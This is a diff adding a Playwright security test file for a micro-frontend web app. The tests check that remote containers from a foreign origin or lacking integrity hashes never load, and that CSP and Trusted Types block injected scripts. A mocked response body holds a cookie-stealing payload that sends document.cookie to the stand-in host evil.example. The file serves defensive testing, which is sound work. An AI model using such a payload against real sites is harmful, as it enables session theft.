@@ -1,0 +1,123 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '../src/story';
+
+const MESSAGE = '이 화면을 불러오지 못했어요';
+const FOREIGN = 'https://evil.example';
+
+/** What stands in place of a remote's live entry in the registry that the page carries. */
+interface Change {
+  readonly url?: string;
+  readonly entry?: string;
+  readonly assets?: Record<string, string>;
+}
+
+/** Answers whatever is asked of the foreign origin. @returns the addresses that were asked for. */
+const standForStranger = async (page: Page): Promise<string[]> => {
+  const asked: string[] = [];
+  await page.route(`${FOREIGN}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'Access-Control-Allow-Origin': '*' },
+      body: `window.smuggled = document.cookie; fetch('${FOREIGN}/?' + document.cookie);`,
+    });
+  });
+  return asked;
+};
+
+/** Lets each page come with another live entry for `mf_usage`. */
+const comeWith = (page: Page, change: Change): Promise<unknown> =>
+  page.addInitScript(({ url, ...extras }) => {
+    const observer = new MutationObserver(() => {
+      const tag = document.getElementById('registry');
+      if (tag === null || tag.nextSibling === null || tag.firstChild === null) return; // not all of it has come
+      observer.disconnect();
+      const registry: { microFrontends: Record<string, { url: string; extras: object }[]> } = JSON.parse(
+        tag.textContent ?? '',
+      );
+      for (const live of registry.microFrontends['mf_usage'] ?? []) {
+        live.url = url ?? live.url;
+        Object.assign(live.extras, extras);
+      }
+      // The page lets nobody set the text of a script element; this one is data, and its text node may change.
+      tag.firstChild.nodeValue = JSON.stringify(registry);
+    });
+    observer.observe(document, { childList: true, subtree: true });
+  }, change);
+
+const smuggled = (page: Page): Promise<boolean> => page.evaluate(() => 'smuggled' in window);
+
+const FOREIGN_ENTRY = `${FOREIGN}/remoteEntry.js`;
+
+const CHANGES: Readonly<Record<string, Change>> = {
+  'lies on a foreign origin': { url: `${FOREIGN}/mf_usage/1/mf-manifest.json` },
+  'is named in full on a foreign origin': { entry: FOREIGN_ENTRY, assets: { [FOREIGN_ENTRY]: 'sha384-x' } },
+  'has no hash': { assets: {} },
+};
+
+for (const [what, change] of Object.entries(CHANGES))
+  test(`a container that ${what} never runs: the message stands in its place`, async ({
+    app,
+    page,
+    member: _loggedIn,
+  }) => {
+    const asked = await standForStranger(page);
+    await comeWith(page, change);
+    await app.usage.open();
+    await expect(app.text(MESSAGE)).toBeVisible();
+    expect(asked).toEqual([]);
+    expect(await smuggled(page)).toBe(false);
+
+    await app.tabs.goToMyPage();
+    await expect(app.my.heading).toBeVisible();
+  });
+
+test.describe('whatever runs in the page', () => {
+  // What the browser says of scripts that it keeps out.
+  test.use({ causedErrors: /TrustedScriptURL|TrustedHTML|Content Security Policy/ });
+
+  test('adds no script of a foreign origin', async ({ app, page }) => {
+    const asked = await standForStranger(page);
+    await app.home.open();
+    const refused = await page.evaluate((origin) => {
+      const script = document.createElement('script');
+      const refuses = (set: () => void): boolean => {
+        try {
+          set();
+          return false;
+        } catch {
+          return true;
+        }
+      };
+      const outcome = [
+        refuses(() => (script.src = `${origin}/a.js`)),
+        refuses(() => script.setAttribute('src', `${origin}/a.js`)),
+        refuses(() => (document.body.innerHTML += `<script src="${origin}/a.js"></script>`)),
+      ];
+      document.head.append(script);
+      return outcome;
+    }, FOREIGN);
+    expect(refused).toEqual([true, true, true]);
+    expect(asked).toEqual([]);
+  });
+
+  test('adds no script of a remote without its hash', async ({ app, page, member: _loggedIn }) => {
+    await app.usage.open();
+    await expect(app.usage.heading).toBeVisible();
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    const outcome = await page.evaluate(async () => {
+      const [known] = document.querySelectorAll('link[rel="preload"][as="script"]');
+      const script = document.createElement('script');
+      script.src = known?.getAttribute('href') ?? '';
+      const settled = new Promise<string>((resolve) => {
+        script.onload = () => resolve('it ran');
+        script.onerror = () => resolve('refused');
+      });
+      document.head.appendChild(script);
+      return settled;
+    });
+    expect(outcome).toBe('refused');
+    expect(asked.filter((url) => url.includes('/mf_usage/'))).toEqual([]);
+  });
+});
